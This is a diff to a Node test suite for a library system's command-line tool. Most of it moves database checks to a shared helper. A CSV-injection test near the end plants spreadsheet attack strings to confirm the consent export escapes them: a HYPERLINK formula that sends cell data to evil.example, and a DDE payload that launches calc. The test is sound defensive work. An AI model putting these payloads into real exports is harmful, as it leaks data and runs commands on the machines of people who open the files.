@@ -6,9 +6,9 @@ import { join } from 'node:path'
 import { fileURLToPath } from 'node:url'
 import { after, before, describe, test } from 'node:test'
 import { parse as parseCsv } from 'csv-parse/sync'
-import Database from 'better-sqlite3'
 import { verifySecret } from '../../src/services/passwords.js'
 import { openStore, type Store } from '../../src/store/store.js'
+import { envFor, freshDatabaseUrl, queryDb } from '../support/database.js'
 import { WebClient, visibleText } from '../support/staffClient.js'
 import { startTestApp, type TestApp } from '../support/testApp.js'
 
@@ -43,7 +43,7 @@ function runCli(dir: string, args: string[], options: { input?: string; env?: Re
 describe('webpac CLI (SPEC 6)', () => {
   let app: TestApp
   let store: Store
-  const cli = (args: string[], options?: { input?: string }) => runCli(app.dir, args, options)
+  const cli = (args: string[], options?: { input?: string }) => runCli(app.dir, args, { ...options, env: envFor(store) })
 
   // A running server on the same database: the CLI must work beside it (WAL + busy_timeout).
   before(async () => {
@@ -132,13 +132,9 @@ describe('webpac CLI (SPEC 6)', () => {
       const key = run.stdout.trim()
       assert.match(key, /^wpk_[A-Za-z0-9_-]{43}$/)
       assert.match(run.stderr, /cannot be shown again/)
-      const keys = new Database(store.location, { readonly: true })
-      try {
-        const hash = createHash('sha256').update(key).digest('hex')
-        assert.equal(keys.prepare('SELECT name FROM api_keys WHERE key_hash = ?').pluck().get(hash), 'sierra-notices')
-      } finally {
-        keys.close()
-      }
+      const hash = createHash('sha256').update(key).digest('hex')
+      const rows = await queryDb<{ name: string }>(store.location, 'SELECT name FROM api_keys WHERE key_hash = ?', hash)
+      assert.deepEqual(rows.map((row) => row.name), ['sierra-notices'])
       const response = await fetch(`${app.url}/api/v1/alerts/1`, { headers: { authorization: `Bearer ${key}` } })
       assert.notEqual(response.status, 401)
       const empty = await cli(['apikey', 'create', ' '])
@@ -365,7 +361,7 @@ describe('webpac CLI (SPEC 6)', () => {
       const polling = setInterval(() => {
         fetch(`${app.url}/healthz`).then((response) => { healthChecks += 1; healthy &&= response.ok }, () => { healthy = false })
       }, 250)
-      const run = await runCli(app.dir, ['patrons', 'import', file])
+      const run = await runCli(app.dir, ['patrons', 'import', file], { env: envFor(store) })
       clearInterval(polling)
 
       assert.equal(run.code, 1)
@@ -380,12 +376,8 @@ describe('webpac CLI (SPEC 6)', () => {
       assert.ok(peakMb > 0 && peakMb < 400, `peak memory ${peakMb} MB`)
       assert.ok(run.ms < 60_000, `took ${run.ms} ms`)
       assert.ok(healthChecks > 0 && healthy, 'the server kept answering during the import')
-      const registrations = new Database(store.location, { readonly: true })
-      try {
-        assert.equal(registrations.prepare('SELECT count(*) FROM sms_registrations').pluck().get(), 0, 'no one was opted in')
-      } finally {
-        registrations.close()
-      }
+      const [registrations] = await queryDb<{ n: number }>(store.location, 'SELECT count(*) AS n FROM sms_registrations')
+      assert.equal(Number(registrations?.n), 0, 'no one was opted in')
       const withPin = await store.repos.patrons.findByBarcode('40000000000005')
       assert.ok(await verifySecret('4321', withPin?.pin_hash ?? null))
       t.diagnostic(`100k import: ${run.ms} ms, peak memory ${peakMb} MB`)
@@ -419,7 +411,8 @@ describe('webpac CLI (SPEC 6)', () => {
       mkdirSync(dir)
       writeFileSync(join(dir, 'messages.conf'), '')
       writeFileSync(join(dir, 'webpub.def'), '')
-      const own = openStore({ dataDir: join(dir, 'data') })
+      const own = await openStore({ dataDir: join(dir, 'data'), databaseUrl: await freshDatabaseUrl() })
+      const env = envFor(own)
       const event = (at: string, userAgent: string | null) => ({
         patron_id: 1, barcode: '6100000000001', e164: '+12015550123', from_status: 'not_opted_in' as const, to_status: 'pending_optin' as const,
         channel: 'web' as const, reason: 'web_opt_in', terms_hash: 'abc', at, ip: '192.0.2.1', user_agent: userAgent, inbound_message_id: null, actor: null,
@@ -429,9 +422,9 @@ describe('webpac CLI (SPEC 6)', () => {
       await own.close()
 
       const [all, since, bad] = await Promise.all([
-        runCli(dir, ['consent', 'export']),
-        runCli(dir, ['consent', 'export', '--since', '2025-02-01']),
-        runCli(dir, ['consent', 'export', '--since', '2025-02-30']),
+        runCli(dir, ['consent', 'export'], { env }),
+        runCli(dir, ['consent', 'export', '--since', '2025-02-01'], { env }),
+        runCli(dir, ['consent', 'export', '--since', '2025-02-30'], { env }),
       ])
       assert.equal(all.code, 0, all.stderr)
       assert.equal(all.stdout, [
@@ -453,7 +446,8 @@ describe('webpac CLI (SPEC 6)', () => {
       mkdirSync(dir)
       writeFileSync(join(dir, 'messages.conf'), '')
       writeFileSync(join(dir, 'webpub.def'), '')
-      const own = openStore({ dataDir: join(dir, 'data') })
+      const own = await openStore({ dataDir: join(dir, 'data'), databaseUrl: await freshDatabaseUrl() })
+      const env = envFor(own)
       const attacks = [
         '=HYPERLINK("https://evil.example/?d="&B2,"Click")',
         '+cmd|\' /C calc\'!A0',
@@ -471,7 +465,7 @@ describe('webpac CLI (SPEC 6)', () => {
       }
       await own.close()
 
-      const run = await runCli(dir, ['consent', 'export'])
+      const run = await runCli(dir, ['consent', 'export'], { env })
       assert.equal(run.code, 0, run.stderr)
       assert.match(run.stdout, /,"'=HYPERLINK\(""https:\/\/evil\.example\/\?d=""&B2,""Click""\)",/)
       const rows = parseCsv(run.stdout, { columns: true }) as Record<string, string>[]
